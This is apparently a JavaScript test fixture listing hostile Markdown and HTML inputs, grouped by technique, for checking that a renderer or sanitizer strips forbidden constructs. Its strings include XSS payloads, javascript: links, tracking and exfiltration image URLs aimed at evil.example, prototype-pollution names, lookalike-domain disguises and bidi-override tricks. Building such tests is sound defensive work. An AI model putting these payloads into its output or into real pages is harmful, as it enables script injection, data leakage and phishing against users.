// Answers that try to do what an answer must not: every construct of S7 to S9.

/** @type {Record<string, string>} by what they try */
export const hostile = {
  script: "<script>alert(1)</script>\n\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n\n<svg onload=alert(1)>\n",
  handlers: "<img src=x onerror=alert(1)> <b onmouseover=\"alert(1)\">a</b> <details open ontoggle=alert(1)>\n",
  frames: "<iframe src=\"https://evil.example/\"></iframe>\n<object data=https://evil.example/></object>\n<embed src=//evil.example/x>\n",
  styles: "<style>@import url(https://evil.example/x.css);</style>\n<link rel=stylesheet href=https://evil.example/x.css>\n<p style=\"background:url(https://evil.example/x)\">\n",
  hints: "<link rel=prefetch href=https://evil.example/><link rel=preconnect href=https://evil.example><a ping=https://evil.example href=https://a.example>a</a>\n",
  navigation: "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"> <base href=https://evil.example/> <form action=https://evil.example/><input autofocus onfocus=alert(1)></form>\n",
  media: "<video autoplay src=https://evil.example/x poster=https://evil.example/y></video> <audio src=https://evil.example/x>\n<picture><source srcset=https://evil.example/x></picture>\n",
  images: "![a](https://evil.example/x.png) ![b][c] ![c] ![](https://evil.example/?q=secret) <img src=https://evil.example/y.png> [![d](https://evil.example/z.png)](https://evil.example/)\n\n[c]: https://evil.example/c.png\n\n![b][c] ![c][] ![c]\n",
  inlineImages: "![a](data:image/svg+xml,<svg onload=alert(1)>) ![b](data:image/png;base64,iVBORw0KGgo=) ![c](blob:https://a.b/c) ![d](//evil.example/x) ![e](x.png)\n",
  addresses: "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](java&#10;script:alert(1)) [d](<java\tscript:alert(1)>) [e](data:text/html,x) [f](vbscript:x) [g](//evil.example) [h](/x) [i](#x) [j](\\javascript:x) [k](&#x6A;avascript:x) <javascript:alert(1)> <data:text/html,x>\n",
  references: "[a]: javascript:alert(1)\n[b]: data:text/html,x\n[__proto__]: https://evil.example/\n\n[a] [b] [c][a] [__proto__] [constructor] [toString]\n",
  disguises: "[https://bank.example](https://evil.example/) [bank.example](https://bank.example@evil.example/) [a](https://bаnk.example/) https://bank.example@evil.example/ <https://evil.example/\u202egnp.exe>\n",
  directions: "a\u202eb\u2066c\u200f `d\u202ee` [f\u202eg](https://evil.example/)\n\n```\u202ejs\nh\u202ei\u0007\n```\n\n# \u2067j\n\n| k\u202e |\n|---|\n| l\u0000 |\n",
  quotes: "[a](https://evil.example/\"onmouseover=\"alert(1)) <https://evil.example/'\"><b>> [b](https://evil.example/ \"\\\" onclick=alert(1)\")\n",
  languages: "```\"><img src=x onerror=alert(1)>\na\n```\n\n~~~html <script>\n<script>alert(1)</script>\n~~~\n",
  templates: "{{constructor.constructor('alert(1)')()}} ${alert(1)} <template><img src=x onerror=alert(1)></template> <!--><img src=x onerror=alert(1)>-->\n",
};
